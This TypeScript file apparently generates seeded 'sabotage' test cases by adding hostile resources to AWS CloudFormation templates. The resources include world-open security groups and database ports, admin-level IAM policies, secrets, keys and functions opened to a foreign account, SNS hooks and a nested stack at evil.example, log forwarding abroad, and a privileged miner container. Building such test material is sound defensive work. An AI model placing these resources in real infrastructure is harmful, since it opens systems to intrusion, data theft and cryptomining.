import type { EnvironmentView, Json, JsonObject, Resource } from '../../../../lib/controls/view';
import { apply, type Edit, type Sabotage } from '../sabotage';

/** A resource that nobody asked for; `logicalId` is made from its name. */
interface Hostile {
  readonly name: string;
  readonly stack: string;
  readonly type: string;
  readonly properties: JsonObject;
}

const EVERYONE = { Effect: 'Allow', Principal: '*', Action: '*', Resource: '*' };
const EVERYTHING = { Effect: 'Allow', Action: '*', Resource: '*' };
const policy = (...statements: JsonObject[]): JsonObject => ({ Version: '2012-10-17', Statement: statements });
const FOREIGN_ACCOUNT = 'arn:aws:iam::999999999999:root';

/** Resources that open an environment that is otherwise untouched. */
export function hostileResources(view: EnvironmentView): readonly Sabotage[] {
  return [
    ...view.ofType('AWS::EC2::SecurityGroup').flatMap(openDoors),
    ...view.ofType('AWS::IAM::Role').flatMap(moreRights),
    ...view.ofType('AWS::KMS::Key').flatMap(keyLeaks),
    ...view.ofType('AWS::SNS::Topic').flatMap(topicLeaks),
    ...view.ofType('AWS::S3::Bucket').flatMap(bucketLeaks),
    ...view.ofType('AWS::SecretsManager::Secret').flatMap(secretLeaks),
    ...view.ofType('AWS::Logs::LogGroup').flatMap(logLeaks),
    ...view.ofType('AWS::EC2::RouteTable').flatMap((table) => routes(table, view)),
    ...view.ofType('AWS::EC2::VPC').flatMap(wayIn),
    ...view.ofType('AWS::ElasticLoadBalancingV2::LoadBalancer').flatMap((balancer) => listeners(balancer, view)),
    ...view.ofType('AWS::ECS::Cluster').flatMap(services),
    ...view.ofType('AWS::Lambda::Function').flatMap(functionLeaks),
    ...anywhere(Object.keys(view.templates)[0] ?? ''),
  ].map((hostile) => asSabotage(view, hostile));
}

const ref = (resource: Resource): Json => ({ Ref: resource.logicalId });
const arn = (resource: Resource): Json => ({ 'Fn::GetAtt': [resource.logicalId, 'Arn'] });

function openDoors(group: Resource): Hostile[] {
  const id = { 'Fn::GetAtt': [group.logicalId, 'GroupId'] };
  const rule = (name: string, properties: JsonObject, direction = 'Ingress'): Hostile => ({
    name: `${group.logicalId} ${name}`,
    stack: group.stack,
    type: `AWS::EC2::SecurityGroup${direction}`,
    properties: { GroupId: id, ...properties },
  });
  return [
    rule('database port to everyone', { IpProtocol: 'tcp', FromPort: 5432, ToPort: 5432, CidrIp: '0.0.0.0/0' }),
    rule('ssh to everyone', { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, CidrIp: '0.0.0.0/0' }),
    rule('everything over IPv6', { IpProtocol: '-1', CidrIpv6: '::/0' }),
    rule('everything from the network', { IpProtocol: '-1', CidrIp: '10.0.0.0/8' }),
    rule('everything to everywhere', { IpProtocol: '-1', CidrIp: '0.0.0.0/0' }, 'Egress'),
  ];
}

function moreRights(role: Resource): Hostile[] {
  const attached = (name: string, statement: JsonObject): Hostile => ({
    name: `${role.logicalId} ${name}`,
    stack: role.stack,
    type: 'AWS::IAM::Policy',
    properties: { PolicyName: name.replace(/\W/g, ''), PolicyDocument: policy(statement), Roles: [ref(role)] },
  });
  return [
    attached('allowed everything', EVERYTHING),
    attached('reads every secret', { Effect: 'Allow', Action: ['secretsmanager:GetSecretValue'], Resource: '*' }),
    attached('passes any role', { Effect: 'Allow', Action: ['iam:PassRole', 'ecs:RunTask'], Resource: '*' }),
    {
      name: `${role.logicalId} managed policy`,
      stack: role.stack,
      type: 'AWS::IAM::ManagedPolicy',
      properties: { PolicyDocument: policy(EVERYTHING), Roles: [ref(role)] },
    },
  ];
}

const keyLeaks = (key: Resource): Hostile[] => [
  {
    name: `${key.logicalId} second key for everyone`,
    stack: key.stack,
    type: 'AWS::KMS::Key',
    properties: { KeyPolicy: policy({ ...EVERYONE, Action: 'kms:*' }), EnableKeyRotation: true },
  },
];

function topicLeaks(topic: Resource): Hostile[] {
  const subscription = (name: string, Protocol: string, Endpoint: string): Hostile => ({
    name: `${topic.logicalId} ${name}`,
    stack: topic.stack,
    type: 'AWS::SNS::Subscription',
    properties: { TopicArn: ref(topic), Protocol, Endpoint },
  });
  return [
    subscription('foreign web address', 'https', 'https://evil.example/hook'),
    subscription('plain web address', 'http', 'http://evil.example/hook'),
    subscription('foreign queue', 'sqs', 'arn:aws:sqs:us-east-1:999999999999:foreign'),
    {
      name: `${topic.logicalId} open to everyone`,
      stack: topic.stack,
      type: 'AWS::SNS::TopicPolicy',
      properties: { Topics: [ref(topic)], PolicyDocument: policy({ ...EVERYONE, Action: 'sns:Publish' }) },
    },
  ];
}

const bucketLeaks = (bucket: Resource): Hostile[] => [
  {
    name: `${bucket.logicalId} open to everyone`,
    stack: bucket.stack,
    type: 'AWS::S3::BucketPolicy',
    properties: { Bucket: ref(bucket), PolicyDocument: policy({ ...EVERYONE, Action: 's3:GetObject' }) },
  },
];

const secretLeaks = (secret: Resource): Hostile[] => [
  {
    name: `${secret.logicalId} open to a foreign account`,
    stack: secret.stack,
    type: 'AWS::SecretsManager::ResourcePolicy',
    properties: {
      SecretId: ref(secret),
      ResourcePolicy: policy({ ...EVERYTHING, Principal: { AWS: FOREIGN_ACCOUNT } }),
    },
  },
];

const logLeaks = (group: Resource): Hostile[] => [
  {
    name: `${group.logicalId} sent to a foreign account`,
    stack: group.stack,
    type: 'AWS::Logs::SubscriptionFilter',
    properties: {
      LogGroupName: ref(group),
      FilterPattern: '',
      DestinationArn: 'arn:aws:logs:us-east-1:999999999999:destination:foreign',
    },
  },
];

function routes(table: Resource, view: EnvironmentView): Hostile[] {
  const gateway = view.ofType('AWS::EC2::InternetGateway').find((each) => each.stack === table.stack);
  const hasDefault = view
    .ofType('AWS::EC2::Route')
    .some((route) => view.target(route.properties.RouteTableId, route) === table);
  // A second default route in one table would not deploy: there the route that stands is changed, by other generators.
  if (!gateway || hasDefault) return [];
  return [
    {
      name: `${table.logicalId} route to the internet`,
      stack: table.stack,
      type: 'AWS::EC2::Route',
      properties: { RouteTableId: ref(table), DestinationCidrBlock: '0.0.0.0/0', GatewayId: ref(gateway) },
    },
  ];
}

const wayIn = (vpc: Resource): Hostile[] => [
  {
    name: `${vpc.logicalId} peered with a foreign network`,
    stack: vpc.stack,
    type: 'AWS::EC2::VPCPeeringConnection',
    properties: { VpcId: ref(vpc), PeerVpcId: 'vpc-0fedcba9876543210', PeerOwnerId: '999999999999' },
  },
  {
    name: `${vpc.logicalId} open group`,
    stack: vpc.stack,
    type: 'AWS::EC2::SecurityGroup',
    properties: {
      GroupDescription: 'open',
      VpcId: ref(vpc),
      SecurityGroupIngress: [{ IpProtocol: '-1', CidrIp: '0.0.0.0/0' }],
    },
  },
  {
    name: `${vpc.logicalId} public machine`,
    stack: vpc.stack,
    type: 'AWS::EC2::Instance',
    properties: { ImageId: 'ami-0fedcba9876543210', InstanceType: 't3.micro' },
  },
  {
    name: `${vpc.logicalId} public subnet`,
    stack: vpc.stack,
    type: 'AWS::EC2::Subnet',
    properties: { VpcId: ref(vpc), CidrBlock: '10.255.0.0/24', MapPublicIpOnLaunch: true },
  },
];

function listeners(balancer: Resource, view: EnvironmentView): Hostile[] {
  const group = view.ofType('AWS::ElasticLoadBalancingV2::TargetGroup').find((each) => each.stack === balancer.stack);
  if (!group) return [];
  return [8080, 8443].map((Port) => ({
    name: `${balancer.logicalId} listener on ${Port}`,
    stack: balancer.stack,
    type: 'AWS::ElasticLoadBalancingV2::Listener',
    properties: {
      LoadBalancerArn: ref(balancer),
      Port,
      Protocol: 'HTTP',
      DefaultActions: [{ Type: 'forward', TargetGroupArn: ref(group) }],
    },
  }));
}

const services = (cluster: Resource): Hostile[] => [
  {
    name: `${cluster.logicalId} service with a public address`,
    stack: cluster.stack,
    type: 'AWS::ECS::Service',
    properties: {
      Cluster: ref(cluster),
      TaskDefinition: 'foreign:1',
      LaunchType: 'FARGATE',
      NetworkConfiguration: {
        AwsvpcConfiguration: { AssignPublicIp: 'ENABLED', Subnets: ['subnet-0fedcba9876543210'] },
      },
    },
  },
  {
    name: `${cluster.logicalId} privileged task`,
    stack: cluster.stack,
    type: 'AWS::ECS::TaskDefinition',
    properties: {
      ContainerDefinitions: [{ Name: 'miner', Image: 'evil/miner:latest', Privileged: true, User: 'root' }],
    },
  },
];

const functionLeaks = (lambda: Resource): Hostile[] => [
  {
    name: `${lambda.logicalId} address without authentication`,
    stack: lambda.stack,
    type: 'AWS::Lambda::Url',
    properties: { TargetFunctionArn: arn(lambda), AuthType: 'NONE' },
  },
  {
    name: `${lambda.logicalId} callable by everyone`,
    stack: lambda.stack,
    type: 'AWS::Lambda::Permission',
    properties: { FunctionName: ref(lambda), Action: 'lambda:InvokeFunction', Principal: '*' },
  },
  {
    name: `${lambda.logicalId} callable by a foreign account`,
    stack: lambda.stack,
    type: 'AWS::Lambda::Permission',
    properties: { FunctionName: ref(lambda), Action: 'lambda:InvokeFunction', Principal: '999999999999' },
  },
];

/** What needs nothing that stands. */
const anywhere = (stack: string): Hostile[] =>
  (
    [
      ['public bucket', 'AWS::S3::Bucket', { AccessControl: 'PublicRead' }],
      ['plain bucket', 'AWS::S3::Bucket', {}],
      ['user', 'AWS::IAM::User', { ManagedPolicyArns: ['arn:aws:iam::aws:policy/AdministratorAccess'] }],
      ['access key', 'AWS::IAM::AccessKey', { UserName: 'someone' }],
      ['group', 'AWS::IAM::Group', { ManagedPolicyArns: ['arn:aws:iam::aws:policy/AdministratorAccess'] }],
      [
        'role for a foreign account',
        'AWS::IAM::Role',
        {
          AssumeRolePolicyDocument: policy({
            Effect: 'Allow',
            Action: 'sts:AssumeRole',
            Principal: { AWS: FOREIGN_ACCOUNT },
          }),
        },
      ],
      [
        'identity provider',
        'AWS::IAM::OIDCProvider',
        { Url: 'https://evil.example', ClientIdList: ['sts.amazonaws.com'] },
      ],
      [
        'public database',
        'AWS::RDS::DBInstance',
        {
          Engine: 'postgres',
          DBInstanceClass: 'db.t4g.micro',
          AllocatedStorage: '20',
          PubliclyAccessible: true,
          MasterUsername: 'root',
          MasterUserPassword: 'plain-text-password-of-it',
        },
      ],
      [
        'open cache',
        'AWS::ElastiCache::CacheCluster',
        { Engine: 'redis', CacheNodeType: 'cache.t4g.micro', NumCacheNodes: 1 },
      ],
      ['literal secret', 'AWS::SecretsManager::Secret', { SecretString: 'plain-text-password-of-it' }],
      [
        'literal parameter',
        'AWS::SSM::Parameter',
        { Name: '/app/db-password', Type: 'String', Value: 'plain-text-password-of-it' },
      ],
      ['plain log group', 'AWS::Logs::LogGroup', {}],
      ['plain topic', 'AWS::SNS::Topic', {}],
      ['plain queue', 'AWS::SQS::Queue', {}],
      [
        'public load balancer',
        'AWS::ElasticLoadBalancingV2::LoadBalancer',
        { Scheme: 'internet-facing', Subnets: ['subnet-0fedcba9876543210'] },
      ],
      [
        'function without limits',
        'AWS::Lambda::Function',
        {
          Runtime: 'nodejs18.x',
          Handler: 'index.handler',
          Code: { ZipFile: 'exports.handler = () => 1' },
          Role: 'arn:aws:iam::999999999999:role/foreign',
        },
      ],
      [
        'custom resource of a foreign account',
        'AWS::CloudFormation::CustomResource',
        {
          ServiceToken: 'arn:aws:lambda:us-east-1:999999999999:function:foreign',
        },
      ],
      [
        'nested stack from elsewhere',
        'AWS::CloudFormation::Stack',
        { TemplateURL: 'https://evil.example/template.json' },
      ],
      [
        'event rule to a foreign account',
        'AWS::Events::Rule',
        {
          ScheduleExpression: 'rate(1 minute)',
          Targets: [{ Id: 'foreign', Arn: 'arn:aws:lambda:us-east-1:999999999999:function:foreign' }],
        },
      ],
      [
        'API without authorisation',
        'AWS::ApiGatewayV2::Api',
        { Name: 'open', ProtocolType: 'HTTP', Target: 'https://evil.example' },
      ],
    ] as const satisfies readonly (readonly [string, string, JsonObject])[]
  ).map(([name, type, properties]) => ({ name, stack, type, properties }));

function asSabotage(view: EnvironmentView, hostile: Hostile): Sabotage {
  const logicalId = `Sabotage${hostile.name.replace(/\W/g, '')}`;
  const edit: Edit = {
    at: [hostile.stack, 'Resources', logicalId],
    to: { Type: hostile.type, Properties: hostile.properties },
  };
  const sabotage = {
    id: `${hostile.stack}/${logicalId}: ${hostile.type} added`,
    kind: 'hostile resource added',
    stack: hostile.stack,
    logicalId,
    type: hostile.type,
    path: '',
    change: `nothing → ${hostile.name}`,
    after: edit.to,
    edits: [edit],
    added: true,
  };
  apply(view.templates, sabotage);
  return sabotage;
}
